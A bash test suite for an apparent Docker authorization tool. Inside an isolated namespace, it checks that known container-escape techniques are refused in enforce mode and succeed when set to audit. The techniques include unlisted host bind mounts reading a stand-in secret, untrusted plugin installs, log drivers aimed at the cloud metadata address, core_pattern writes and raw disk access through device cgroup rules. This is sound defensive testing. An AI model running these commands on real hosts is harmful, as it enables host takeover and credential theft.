#!/usr/bin/env bash
# The doors that were once found open, tried on a real dockerd: in production each is refused and nothing happens on the host; and with
# the rules that close it set to audit the same command does it, so that nothing is closed only because it can't be done here.
#
# All of it has a network of its own: loopback, and on it the address where clouds hand out credentials. So a swarm and the ones
# that listen meet nobody else's, and what dockerd sends goes nowhere.
[ ! /proc/self/ns/net -ef "/proc/$PPID/ns/net" ] || exec unshare --net -- "$0" "$@"

# shellcheck source=engine.sh
source "$(dirname "$0")/engine.sh"

here=$(cd "$(dirname "$0")" && pwd)
pids=() disk='' phase='' asked=yes judged='' patience=0 unshown='' no_swarm='' no_ps=''

end() {
        local status=$? folder

        [ ${#pids[@]} -eq 0 ] || kill "${pids[@]}" 2>/dev/null
        [ -z "$disk" ] || losetup -d "$disk"
        # A plugin's socket lies there, whatever dockerd was told of its folders.
        for folder in "$engine_dir"/data/plugins/*/rootfs; do
                folder=${folder%/rootfs}
                [ ! -d "$folder" ] || rm -rf "/run/docker/plugins/${folder##*/}"
        done
        (exit "$status") # which is what engine_end ends with
        engine_end
}

# --- doors ------------------------------------------------------------------------------------------------------------

# door TITLE RULES HAPPENED… -- COMMAND…
# COMMAND knocks, and leaves what was said in $said. HAPPENED succeeds if the host was reached. RULES, with blanks between, are named
# in the refusal; those that begin with + would refuse what comes after it. Neither flaws of a request nor what protects docksill
# itself can be set to audit one by one: where RULES are of these, all are. $unshown says why the next one can't be opened here.
door() {
        local title=$1 rules=$2 happened=()
        shift 2
        while [ "$1" != -- ]; do
                happened+=("$1")
                shift
        done
        shift

        if [ "$phase" = closed ]; then
                judge enforce
                "$@"
                patience=0
                check "$title: refused" refused_for "$rules"
                check "$title: nothing happens" not "${happened[@]}"
        elif [ -n "$unshown" ]; then
                printf '  note    %s: not shown to work here, as %s\n' "$title" "$unshown"
        else
                case $rules in
                request-* | *self-protection*) judge audit ;;
                *) judge enforce "$rules" ;;
                esac
                "$@"
                patience=3
                check "$title: let in, it happens" shown "${happened[@]}"
        fi
        unshown=''
        tidy
}

# judge MODE [RULES]: production, with what the site lets in, but for these RULES, which are recorded alone.
judge() {
        local mode=$1 docker=off rule before

        [ "$judged" != "$mode ${2:-} $asked" ] || return 0
        judged="$mode ${2:-} $asked"
        [ "$asked" = no ] || docker=unix://$engine_socket
        settings "$mode" "$docker"
        site_with "$listed"
        printf '  - {list: allowed-host-paths-read-only, append: [%s]}\n' "$memory" >>"$site"
        for rule in ${2:-}; do
                printf '  - {rule: %s, mode: audit}\n' "${rule#+}" >>"$site"
        done
        [ -n "$docksill_pid" ] || return 0
        # Some of them are hard, which no reload drops unless somebody says that it is meant.
        [ -z "${2:-}" ] || "$DOCKSILL" check --accept-fewer --rules "$engine_top/rules" --config "$engine_dir/docksill.yaml" >"$engine_dir/accepted" 2>&1
        before=$(reloads)
        kill -s HUP "$docksill_pid"
        wait_until 10 reloaded_since "$before" || not_ok "docksill reloads: $judged" "$(tail -n 3 "$engine_dir/docksill.log")"
}

settings() {
        cat >"$engine_dir/docksill.yaml" <<END
docksill: v1
kind: configuration
environment: $engine_dir/site.yaml
mode: $1
exemptions: $engine_dir/exemptions
state: $engine_dir/state
lookups: {docker: "$2", deadline: 2s}
END
}

reloads() {
        grep -c 'SIGHUP: reloaded' "$engine_dir/docksill.log"
}

reloaded_since() {
        [ "$(reloads)" -gt "$1" ]
}

refused_for() {
        local rule

        for rule in $1; do
                [[ $rule == +* ]] || refusal_names "$rule" || return
        done
}

not() { ! "$@"; }

# shown HAPPENED…: with what was said, if it did not.
shown() {
        "$@" && return
        printf 'said: %s\n' "$said"
        return 1
}

# Away with what a door made, for the next one.
tidy() {
        local made

        rm -f "$backups/canary" "$memory/canary" "$engine_dir"/{,area/,data/,exec/}canary
        for made in containers/door services/door volumes/door plugins/door images/door:1; do
                printf 'url = "http://docker/v1.41/%s?force=1"\noutput = /dev/null\n' "$made"
        done | curl -s --max-time 40 --unix-socket "$engine_socket" -X DELETE -K -
        : >"$engine_dir/listen/heard"
}

# --- what happened ----------------------------------------------------------------------------------------------------

there() { wait_until "$patience" test -e "$1"; }

gone() { wait_until "$patience" test ! -e "$1"; }

printed() { says "$1" "$said"; }

heard() { wait_until "$patience" grep -q "^$1" "$engine_dir/listen/heard"; }

# known PATH [JQ-CONDITION]: dockerd has such a thing, of which this holds.
known() { wait_until "$patience" is_known "$@"; }

is_known() {
        local found

        found=$(curl -sf --max-time 5 --unix-socket "$engine_socket" "http://docker/v1.41/$1") && jq -e "${2:-.}" <<<"$found"
}

# --- how to knock -----------------------------------------------------------------------------------------------------

# run ARGUMENT…: a container that is hardened in all else.
run() {
        client run --rm "${hardened[@]}" "$@"
}

# The same as root: later options win.
root_run() {
        run --user 0:0 "$@"
}

# call METHOD TARGET [JSON]
call() {
        said=$(api "$1" "$2" -H 'Content-Type: application/json' -d "${3:-}")
        code=$?
}

# bound_volume OPTION…: makes the volume, and then writes into it.
bound_volume() {
        local option options=()

        for option; do
                options+=(--opt "$option")
        done
        client volume create "${options[@]}" door
        [ "$code" -ne 0 ] || run -v door:/h "$image" sh -c 'echo >/h/canary'
}

# service TASK [COMMAND]: hardened in all else; TASK is a TaskTemplate, in JSON.
service() {
        # shellcheck disable=SC2016 # the variables are jq's
        call POST /v1.41/services/create "$(jq -cn --arg image "$image" --argjson task "$1" --arg command "${2:-echo >/h/canary}" \
                '{ContainerSpec: {Image: $image, User: "10001:10001", ReadOnly: true, CapabilityDrop: ["ALL"], Command: ["sh", "-c", $command]},
                Resources: {Limits: {MemoryBytes: 67108864, NanoCPUs: 500000000, Pids: 50}}, RestartPolicy: {Condition: "none"}} * $task
                | {Name: "door", TaskTemplate: .}')"
}

# mounted MOUNT: a service's task with it.
mounted() {
        jq -cn --argjson mount "$1" '{ContainerSpec: {Mounts: [$mount]}}'
}

# A volume of the plugin that was there before: made, and then read.
plugin_volume() {
        client volume create -d old door
        [ "$code" -ne 0 ] || root_run -v door:/h:ro "$image" cat "/h$backups/shadow"
}

# A client would wait for it to succeed.
join_stranger() {
        said=$(api POST /v1.41/swarm/join --max-time 2 -H 'Content-Type: application/json' \
                -d '{"ListenAddr": "127.0.0.1:2377", "AdvertiseAddr": "127.0.0.1", "RemoteAddrs": ["127.0.0.1:5140"],
                "JoinToken": "SWMTKN-1-0000000000000000000000000000000000000000000000000a-0000000000000000000000000"}' 2>&1)
}

# --- the stage --------------------------------------------------------------------------------------------------------

plugin_folder() {
        mkdir -p "$engine_dir/plugin/rootfs/run/docker/plugins"
        cc -static -O1 -o "$engine_dir/plugin/rootfs/plugin" "$here/doors-plugin.c" || exit 1
        cat >"$engine_dir/plugin/config.json" <<'END'
{"entrypoint": ["/plugin"], "interface": {"types": ["docker.volumedriver/1.0"], "socket": "door.sock"},
 "network": {"type": ""}, "linux": {}, "env": [{"name": "COLOUR", "value": "blue", "settable": ["value"]}]}
END
}

listener() {
        mkdir "$engine_dir/listen"
        python3 "$here/doors-listen.py" "$engine_dir/listen" "$engine_dir/plugin/rootfs/plugin" >"$engine_dir/listen/said" 2>&1 &
        pids+=($!)
        wait_until 10 grep -q listening "$engine_dir/listen/said" && return
        cat "$engine_dir/listen/said" >&2
        exit 1
}

# What there is before anybody is refused: let in by docksill in audit mode.
prepare() {
        engine_begin
        trap end EXIT
        busybox ip link set lo up && busybox ip addr add 169.254.169.254/32 dev lo || exit 1
        backups=$engine_dir/backups listed=$engine_dir/area/listed memory=$engine_dir/memory
        mkdir -p "$backups" "$listed" "$memory" "$engine_dir/area/victim" "$engine_dir/exemptions"
        echo 'secret of the host' >"$backups/shadow"
        ln -s "$backups" "$listed/out"
        mount -t tmpfs -o size=1m,mode=1777 doors "$memory" || exit 1
        chmod 777 "$backups" "$listed"
        echo 'what is on the disk' >"$engine_dir/disk"
        truncate -s 64K "$engine_dir/disk"
        disk=$(losetup --find --show "$engine_dir/disk" 2>/dev/null) # or none
        plugin_folder
        listener

        # A longer way to /h: what has more parts is mounted later, whichever comes first in the request.
        mkdir -p "$engine_dir/root/way"
        ln -s /h "$engine_dir/root/way/h"
        image_import || exit 1
        judge audit
        docksill_start --config "$engine_dir/docksill.yaml" || exit 1
        daemon_json "$plugin"
        jq '.experimental = true' "$engine_dir/daemon.json" >"$engine_dir/daemon.json.new"
        mv "$engine_dir/daemon.json.new" "$engine_dir/daemon.json"
        engine_start || exit 1
        client swarm init --listen-addr 127.0.0.1:2377 --advertise-addr 127.0.0.1
        [ "$code" -eq 0 ] || no_swarm="there is no swarm: $said"
        "${engine_inside[@]}" ps --version >/dev/null 2>&1 || no_ps='the engine finds no ps'
        echo >"$engine_dir/plugin/rootfs/differs" # no two plugins may have the same content
        made plugin create old "$engine_dir/plugin"
        rm "$engine_dir/plugin/rootfs/differs"
        made create --name keeper "${hardened[@]}" -v "$backups:/h" "$image"
        made run -d --name guest --stop-signal KILL "${hardened[@]}" -e COLOUR=of-the-guest "$image" sleep 600
        made run -d --name hostly --stop-signal KILL --network host --pid host "$image" sleep 600
        stranger
}

made() {
        client "$@"
        [ "$code" -eq 0 ] && return
        printf 'docker %s: %s\n' "$1" "$said" >&2
        exit 1
}

# A process of the host whose user has the number of a process of the guest: as a column that is called PID.
stranger() {
        setpriv --reuid "$("$docker" -H "unix://$engine_socket" inspect -f '{{.State.Pid}}' guest)" --clear-groups \
                env -i COLOUR=of-the-host sleep 4242 &
        stranger=$!
        pids+=("$stranger")
}

# --- 1: folders of the host -------------------------------------------------------------------------------------------

folders() {
        local write=(sh -c 'echo >/h/canary')

        door 'a folder that is not listed' host-path-unlisted there "$backups/canary" -- \
                run -v "$backups:/h" "$image" "${write[@]}"
        door 'the same read-only' host-path-unlisted printed 'secret of the host' -- \
                run -v "$backups:/h:ro" "$image" cat /h/shadow
        door 'the same in the long form' host-path-unlisted there "$backups/canary" -- \
                run --mount "type=bind,source=$backups,target=/h" "$image" "${write[@]}"
        door 'a volume that is one' host-path-unlisted there "$backups/canary" -- \
                bound_volume type=none o=bind "device=$backups"
        door 'a volume that is one, made on the way' host-path-unlisted there "$backups/canary" -- \
                run --mount "type=volume,target=/h,volume-driver=local,volume-opt=type=tmpfs,\"volume-opt=o=size=1m,rbind\",volume-opt=device=$backups" \
                "$image" "${write[@]}"
        unshown=$no_swarm
        door 'a service with it' host-path-unlisted there "$backups/canary" -- \
                service "$(mounted '{"Type": "bind", "Source": "'"$backups"'", "Target": "/h"}')"
        door 'a link to it in a listed folder' host-path-unlisted there "$backups/canary" -- \
                run -v "$listed/out:/h" "$image" "${write[@]}"
        door 'the folder above a listed one' host-path-unlisted there "$engine_dir/area/canary" -- \
                root_run -v "$engine_dir/area:/h" "$image" "${write[@]}"
        door 'writable what is listed read-only' host-path-unlisted there "$memory/canary" -- \
                run -v "$memory:/h" "$image" "${write[@]}"
}

engine_folders() {
        local write=(sh -c 'echo >/h/canary') rules='engine-folder-mount host-path-unlisted'

        door "the engine's own folder, which was moved" "$rules" there "$engine_dir/data/canary" -- \
                root_run -v "$engine_dir/data:/h" "$image" "${write[@]}"
        door 'what lies below it, read-only' "$rules" printed '"Binds":' -- \
                root_run -v "$engine_dir/data/containers:/h:ro" "$image" sh -c 'cat /h/*/hostconfig.json'
        door 'the folder above it' "$rules self-protection" there "$engine_dir/canary" -- \
                root_run --mount "type=bind,source=$engine_dir,target=/h" "$image" "${write[@]}"
        door 'its folder for running containers' "$rules" there "$engine_dir/exec/canary" -- \
                root_run -v "$engine_dir/exec:/h" "$image" "${write[@]}"
        asked=no
        door "the engine's own folder, where the engine is not asked" "$rules" there "$engine_dir/data/canary" -- \
                root_run -v "$engine_dir/data:/h" "$image" "${write[@]}"
        asked=yes
}

# --- 2: plugins of the engine -----------------------------------------------------------------------------------------

plugins() {
        door 'a plugin made from a folder' plugin-untrusted known plugins/door/json -- \
                client plugin create door "$engine_dir/plugin"
        door 'a plugin from a registry, without privileges' plugin-untrusted known plugins/door/json -- \
                client plugin install --disable --grant-all-permissions --alias door 127.0.0.1:8000/evil/door:1
        unshown=$no_swarm
        door 'a plugin on every node, as a service' plugin-untrusted known plugins/door/json -- \
                service '{"Runtime": "plugin", "PluginSpec": {"name": "door", "remote": "127.0.0.1:8000/evil/door:1", "disabled": true}}'
        door 'a setting of a plugin' plugin-untrusted known plugins/old/json '.Settings.Env == ["COLOUR=red"]' -- \
                client plugin set old COLOUR=red
        door 'a plugin that is exchanged' plugin-untrusted known plugins/old/json '.PluginReference == "127.0.0.1:8000/evil/door:1"' -- \
                client plugin upgrade --grant-all-permissions --skip-remote-check old 127.0.0.1:8000/evil/door:1
        door 'a plugin that is started' plugin-enable known plugins/old/json .Enabled -- \
                client plugin enable old
        door "a plugin's volume, which is the host's root" volume-driver-remote printed 'secret of the host' -- \
                plugin_volume
        door 'a log driver that is a socket somewhere else' driver-outside-plugins heard 'driver POST /Plugin.Activate' -- \
                run --log-driver "../../..$engine_dir/listen/driver" "$image" true
        door 'a network driver that is one' driver-outside-plugins heard 'driver POST /Plugin.Activate' -- \
                client network create --driver "../../..$engine_dir/listen/driver" door
}

# --- 3: templates of a swarm ------------------------------------------------------------------------------------------

templates() {
        unshown=$no_swarm
        door 'a mount whose source is a template' request-template there "$backups/canary" -- \
                service "$(mounted '{"Type": "bind", "Source": "'"$engine_dir"'/{{print \"backups\"}}", "Target": "/h"}')"
        unshown=$no_swarm
        door 'options of a volume that are one' request-template there "$backups/canary" -- \
                service "$(mounted '{"Type": "volume", "Source": "door", "Target": "/h", "VolumeOptions": {"DriverConfig": {"Name": "local",
                "Options": {"type": "tmpfs", "o": "size=1m{{print \",bind\"}}", "device": "'"$backups"'"}}}}')"
}

# --- 4: file systems in memory ----------------------------------------------------------------------------------------

in_memory() {
        door 'a tmpfs that makes a read-only mount writable' tmpfs-options there "$memory/canary" -- \
                run -v "$memory:/h:ro" --tmpfs /way/h:remount,rw "$image" sh -c 'echo >/h/canary'
        runc_remounts || unshown="$(runc_version) remounts file systems in memory alone"
        door 'a tmpfs that makes /sys writable' 'tmpfs-options tmpfs-target' printed 'sysfs on /sys type sysfs (rw,' -- \
                run --tmpfs /sys/:remount,rw "$image" mount
        door 'a tmpfs over a folder of /sys' tmpfs-target printed 'tmpfs on /sys/kernel type tmpfs' -- \
                run --tmpfs /sys/kernel:size=1m "$image" mount
}

runc_version() {
        "${engine_inside[@]}" runc --version | head -n 1
}

# Before 1.1.8 whatever is mounted there, later what takes a mode.
runc_remounts() {
        [ "$({ echo 'runc version 1.1.8' && runc_version; } | sort -V | tail -n 1)" = 'runc version 1.1.8' ]
}

# --- 5: where logs go -------------------------------------------------------------------------------------------------

logs() {
        local closed=$engine_dir/listen/closed/log.sock tag=$'x\n<0>Jan  1 00:00:00 host sshd[1]: not of a container\n'

        door "a log that goes to a socket of root's" log-address-chosen heard 'socket .*one' -- \
                run --log-driver syslog --log-opt "syslog-address=unix://$closed" "$image" echo one
        door 'the same by another driver' log-address-chosen heard 'socket .*two' -- \
                run --log-driver fluentd --log-opt "fluentd-address=unix://$closed" "$image" echo two
        door 'a log that goes to a port of the host' log-address-chosen heard 'port .*three' -- \
                run --log-driver syslog --log-opt syslog-address=tcp://127.0.0.1:5140 "$image" echo three
        door 'a web server of the host as the collector' log-address-chosen heard 'web OPTIONS' -- \
                run --log-driver splunk --log-opt splunk-token=x --log-opt splunk-url=http://localhost:8000 "$image" true
        door "a log that goes where clouds hand out credentials" log-address-chosen heard 'cloud .*four' -- \
                run --log-driver syslog --log-opt syslog-address=tcp://169.254.169.254:80 "$image" echo four
        door 'the same in datagrams' log-address-chosen heard 'cloud [0-9]* bytes' -- \
                run --log-driver gelf --log-opt gelf-address=udp://169.254.169.254:80 "$image" echo five
        door 'credentials from an address behind an @' log-address-chosen heard 'web GET /credentials' -- \
                run --log-driver awslogs --log-opt awslogs-region=eu-west-1 --log-opt awslogs-group=x \
                --log-opt awslogs-credentials-endpoint=@127.0.0.1:8000/credentials "$image" true
        unshown=$no_swarm
        door "a service's log" log-address-chosen heard 'port .*six' -- \
                service '{"LogDriver": {"Name": "syslog", "Options": {"syslog-address": "tcp://127.0.0.1:5140"}}}' 'echo six'
        unshown='dockerd reads these defaults nowhere'
        door 'the log of every task' log-address-chosen heard 'port connected' -- \
                call POST /v1.41/swarm/update?version=1 '{"Name": "default", "TaskDefaults": {"LogDriver": {"Name": "syslog",
                "Options": {"syslog-address": "tcp://127.0.0.1:5140"}}}}'
        door 'a file of the host that is read for a log' 'log-host-file log-address-chosen' printed 'failed to append certificates' -- \
                run --log-driver syslog --log-opt syslog-address=tcp+tls://127.0.0.1:5140 \
                --log-opt "syslog-tls-ca-cert=$backups/shadow" "$image" true
        door 'a tag that is a record of its own' request-log-control-byte heard "port b'<0>Jan .* not of a container" -- \
                run --log-driver syslog --log-opt syslog-address=tcp://127.0.0.1:5140 --log-opt syslog-format=rfc3164 \
                --log-opt "tag=$tag" "$image" echo seven
}

# --- 6: what top reads ------------------------------------------------------------------------------------------------

tops() {
        local words

        unshown=$no_ps
        door 'top with variables' top-arguments printed COLOUR=of-the-guest -- client top guest eww
        unshown=$no_ps
        door 'top with variables among other letters' top-arguments printed COLOUR=of-the-guest -- client top guest auxeww
        unshown=$no_ps
        door "top with a process of the host's, and its variables" top-arguments printed COLOUR=of-the-host -- \
                client top guest '-eouid=PID,args e f'
        unshown=$no_ps
        door 'top with a title of its own' top-arguments printed 'sleep 600' -- client top guest -o pid=PID,args
        [ -z "$no_ps" ] || return 0
        for words in '' aux -ef '-o pid,args'; do
                # shellcheck disable=SC2086 # several words
                check "top ${words:-without more} is for everybody" allowed top guest $words
        done
}

# --- 7: what is fetched, what comes from others, what is taken off ----------------------------------------------------

fetches() {
        door 'a build of what lies on the host' 'build-unjudgeable fetch-own-host' known images/door:1/json -- \
                call POST '/v1.41/build?remote=http://127.0.0.1:8000/Dockerfile&t=door:1' ''
        door 'the same: that it is fetched' 'build-unjudgeable fetch-own-host' heard 'web GET /Dockerfile' -- \
                call POST '/v1.41/build?remote=http://127.0.0.1:8000/Dockerfile' ''
        door 'an import of what lies on the host' fetch-own-host heard 'web GET /image.tar' -- \
                call POST '/v1.41/images/create?fromSrc=http://127.0.0.1:8000/image.tar&repo=door&tag=1' ''
}

checkpoints() {
        door 'a folder of the host, listed as checkpoints' checkpoint-dir printed victim -- \
                call GET "/v1.41/containers/guest/checkpoints?dir=$engine_dir/area"
        door 'a folder of the host, removed as one' checkpoint-dir gone "$engine_dir/area/victim" -- \
                call DELETE "/v1.41/containers/guest/checkpoints/victim?dir=$engine_dir/area"
}

from_others() {
        local look=(run --pid container:hostly "$image" busybox strings "/proc/$stranger/cmdline")
        local join=(client run --rm "${hardened[@]/none/container:hostly}" "$image" busybox nc -w 1 127.0.0.1 5140)

        asked=no
        door "another container's folders, where nobody is asked" 'host-root-mount runtime-socket-mount self-protection' \
                printed 'secret of the host' -- run --volumes-from keeper "$image" cat /h/shadow
        door "another container's network, where nobody is asked" joined-namespace heard 'port connected' -- "${join[@]}"
        door "another container's processes, where nobody is asked" joined-namespace printed 4242 -- "${look[@]}"
        asked=yes
        door "another container's folders" host-path-unlisted printed 'secret of the host' -- \
                run --volumes-from keeper "$image" cat /h/shadow
        door "another container's network, which is the host's" 'joined-namespace +target-joined-namespace' heard 'port connected' -- \
                "${join[@]}"
        door "another container's processes, which are the host's" 'joined-namespace +target-joined-namespace' printed 4242 -- \
                "${look[@]}"
}

taken_off() {
        local numbers='7 0'

        door "the kernel's settings without a mask, as root" 'unmasked-system-paths apparmor-unconfined' printed open -- \
                root_run --security-opt systempaths=unconfined --security-opt apparmor=unconfined \
                "$image" sh -c ': >>/proc/sys/kernel/core_pattern && echo open'
        if [ -n "$disk" ]; then
                numbers=$(stat -c '%Hr %Lr' "$disk")
        else
                unshown='no file can be made a disk'
        fi
        door 'all disks by a rule of the device cgroup' device-cgroup-rule printed 'what is on the disk' -- \
                root_run --read-only=false --cap-add MKNOD --device-cgroup-rule 'b *:* rwm' \
                "$image" sh -c "busybox mknod /node b $numbers && busybox head -n 1 /node"
        door "the host's memory by one" device-cgroup-rule known containers/door/json '.HostConfig.DeviceCgroupRules == ["c 1:1 rwm"]' -- \
                client create --name door "${hardened[@]}" --device-cgroup-rule 'c 1:1 rwm' "$image"
}

# It leaves the swarm that the others use, so it comes last. dockerd then tries for 20 seconds, and does not end before.
joining() {
        if [ "$phase" = open ]; then
                client swarm leave --force
                client rm --force guest hostly
                client plugin rm --force old
        fi
        door "joining a stranger's swarm" swarm-enable heard 'port connected' -- join_stranger
        if [ "$phase" = open ]; then
                kill -9 "$engine_pid"
                wait "$engine_pid" 2>/dev/null
                engine_pid=''
        fi
}

# --- and what stays open ----------------------------------------------------------------------------------------------

neighbours() {
        judge enforce
        check 'a listed folder is let in' allowed run --rm "${hardened[@]}" -v "$listed:/h" "$image" sh -c 'echo >/h/canary'
        check 'and is the one of the host' there "$listed/canary"
        check 'one that is listed read-only too' allowed run --rm "${hardened[@]}" -v "$memory:/h:ro" "$image" ls /h
        check 'a volume' allowed run --rm "${hardened[@]}" -v plain:/h "$image" true
        check 'a tmpfs' allowed run --rm "${hardened[@]}" --tmpfs /tmp:rw,noexec,nosuid,size=1m "$image" true
        check "a log of the engine's own drivers" allowed run --rm "${hardened[@]}" --log-driver local "$image" true
}

exempted() {
        cat >"$engine_dir/exemptions/backup.yaml" <<END
docksill: v1
kind: exemptions
exemptions:
  - id: backup
    rules: [host-path-unlisted]
    match: {image.name: docker.io/library/busybox}
    only: {mount.source: $backups, mount.read_only: true}
    owner: the tests
    reason: "shows that an exemption opens the one door it names"
    expires: $(date -d '+30 days' +%F)
END
        judged=''
        judge enforce
        check 'an exemption lets its folder in' allowed run --rm "${hardened[@]}" -v "$backups:/h:ro" "$image" cat /h/shadow
        check 'which then is read' printed 'secret of the host'
        check 'and not writable' refused host-path-unlisted run --rm "${hardened[@]}" -v "$backups:/h" "$image" true
        check 'nor any other' refused host-path-unlisted run --rm "${hardened[@]}" -v "$engine_dir/area:/h:ro" "$image" true
        rm "$engine_dir/exemptions/backup.yaml"
        judged=''
}

play() {
        phase=$1
        folders
        engine_folders
        plugins
        templates
        in_memory
        logs
        tops
        fetches
        checkpoints
        from_others
        taken_off
        joining
}

prepare
play closed
neighbours
exempted
play open
finish
